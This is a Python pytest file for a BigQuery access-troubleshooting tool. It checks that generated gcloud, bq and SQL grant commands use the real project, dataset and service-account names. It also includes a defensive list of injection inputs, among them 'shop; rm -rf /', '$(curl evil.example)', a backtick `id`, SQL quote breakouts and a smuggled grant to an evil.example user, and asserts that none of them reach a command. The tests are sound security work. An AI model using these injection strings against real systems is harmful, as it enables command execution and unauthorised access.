"""Commands to paste: filled in with what is real, and with nothing that could be a trap."""

import shlex

import pytest

from connections import cures
from connections.bigquery.catalogue import CATALOGUE
from connections.bigquery.diagnosis import Asked, judge
from connections.bigquery.symptoms import Source, Symptom
from connections.guide import guide
from connections.models import Access, ConnectionTest, StoredKey
from connections.remedies import filled_in, remedy

EMAIL = "importer@shop-4711.iam.gserviceaccount.com"


def commands(**values):
    steps = guide(**{"project_id": "", "dataset_id": "", "email": "", **values})
    return "\n".join(command["code"] for step in steps for command in step["commands"])


def test_fills_in_project_dataset_and_the_real_account():
    text = commands(project_id="shop-4711", dataset_id="shop", email=EMAIL)
    assert f"--member=serviceAccount:{EMAIL}" in text
    assert "CREATE SCHEMA IF NOT EXISTS `shop-4711`.`shop`;" in text
    assert "`shop-4711`.INFORMATION_SCHEMA.SCHEMATA" in text


def test_shows_placeholders_for_what_is_not_typed_yet():
    text = commands()
    assert "PROJECT_ID" in text
    assert "DATASET_ID" in text


@pytest.mark.parametrize("typed", ["shop; rm -rf /", "$(curl evil.example)", "a`b", "x\ny"])
def test_never_fills_in_what_is_no_identifier(typed):
    text = commands(project_id=typed, dataset_id=typed)
    assert typed not in text
    assert "PROJECT_ID" in text


def test_a_cure_without_anything_to_say_is_empty():
    assert cures.Cure().to_json() == {}


def test_a_grant_on_the_project_is_offered_as_sql_too():
    cure = cures.grant_on_project(role=cures.JOB_USER, project="shop-4711", email=EMAIL).to_json()
    gcloud, sql = (command["code"] for command in cure["commands"])
    assert "--condition=None" in gcloud
    assert sql.startswith("GRANT `roles/bigquery.jobUser`\nON PROJECT `shop-4711`\nTO ")


def test_a_grant_on_the_dataset_names_the_smallest_place():
    cure = cures.grant_on_dataset(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", email=EMAIL
    ).to_json()
    assert cure["resource"] == "dataset shop-4711.shop"
    assert "ON SCHEMA `shop-4711`.`shop`" in cure["commands"][1]["code"]


def test_a_grant_on_the_dataset_needs_no_feature_that_google_gives_to_few():
    """“bq add-iam-policy-binding” on a dataset is refused: “requires allowlisting”."""
    cure = cures.grant_on_dataset(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", email=EMAIL
    )
    assert "add-iam-policy-binding" not in cure.gcloud
    assert words_of(cure.gcloud)[-1] == cure.sql


def test_a_grant_on_a_table_offers_the_table_first_and_then_the_dataset():
    cure = cures.grant_on_table(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", table="a b", email=EMAIL
    ).to_json()
    codes = [command["code"] for command in cure["commands"]]
    assert cure["resource"] == "table shop-4711.shop.a b"
    assert words_of(codes[0])[-1] == "shop-4711:shop.a b"
    assert "ON TABLE `shop-4711`.`shop`.`a b`" in codes[1]
    assert ["ON SCHEMA" in code for code in codes] == [False, False, True, True]


HOSTILE = [
    "shop; rm -rf /",
    "$(curl evil.example)",
    "`id`",
    "a' || 'b",
    'x" TO "user:evil@evil.example',
    "shop\nDROP",
    " evil-4711",
    "--project=evil",
    "{home}",
    "",
]


def words_of(command):
    """As a shell takes it: a backslash at the end of a line joins the lines."""
    return shlex.split(command.replace("\\\n", " "))


def failed_test(**values):
    """A test whose names did not go through our own forms."""
    key = StoredKey(
        client_email=values.get("email", EMAIL),
        private_key_id=values.get("key_id", "0123456789abcdef0123456789abcdef01234567"),
        project_id=values.get("home", "shop-4711"),
    )
    return ConnectionTest(
        project_id=values.get("project", "shop-4711"),
        dataset_id=values.get("dataset", "shop"),
        access=Access.READ_ONLY,
        key=key,
    )


def failure(permission, table=None):
    text = f"Access Denied: Table p:d.t: Permission {permission} denied on table p:d.t."
    denied = Symptom(Source.API, frozenset({"accessDenied"}), 403, text)
    return judge(denied, Asked("shop-4711", "table shop-4711.shop.t", table))


def codes_of(cure):
    every = [*cure["commands"]] if "commands" in cure else []
    every += [command for cause in cure.get("causes", []) for command in cause["commands"]]
    return [command["code"] for command in every]


@pytest.mark.parametrize("name", ["project", "dataset", "email", "key_id", "home"])
@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("permission", ["bigquery.jobs.create", "bigquery.tables.getData"])
def test_no_command_holds_a_name_that_breaks_its_rules(name, value, permission):
    cure = remedy(failure(permission), failed_test(**{name: value})).to_json()
    assert value == "" or not any(value in code for code in codes_of(cure))
    assert not any("{" in code for code in codes_of(cure))


@pytest.mark.parametrize("table", [one for one in HOSTILE if one])
def test_a_table_of_a_hostile_name_is_not_put_into_a_command(table):
    cure = remedy(failure("bigquery.tables.getData", table), failed_test()).to_json()
    assert not any(table in code for code in codes_of(cure))
    assert "ON SCHEMA" in cure["commands"][1]["code"]


@pytest.mark.parametrize("entry", CATALOGUE, ids=lambda entry: entry.sentence[:60])
def test_every_cause_is_filled_in_with_the_real_names(entry):
    names = cures.Names("shop-4711", "shop", "", EMAIL, "0123456789abcdef0123", "home-4711")
    for cause, filled in zip(entry.causes, filled_in(entry.causes, names), strict=True):
        assert "{" not in " ".join((filled["title"], filled["tell"], filled["then"]))
        assert len(filled["commands"]) == len(cause.commands)


def test_a_signature_that_is_refused_is_told_by_the_id_of_the_key():
    invalid = Symptom(Source.TOKEN, frozenset({"invalid_grant"}), 400, "Invalid JWT Signature.")
    causes = remedy(judge(invalid, Asked("p", "the access token")), failed_test()).causes
    assert f"--iam-account={EMAIL}" in causes[0]["commands"][0]["code"]
    assert "no KEY_ID 0123456789abcdef0123456789abcdef01234567" in causes[0]["tell"]


def test_a_failure_of_one_cause_has_no_list_of_causes():
    gone = Symptom(Source.API, frozenset({"bytesBilledLimitExceeded"}), 400, "")
    assert remedy(judge(gone, Asked("p", "a query")), failed_test()).to_json() == {}
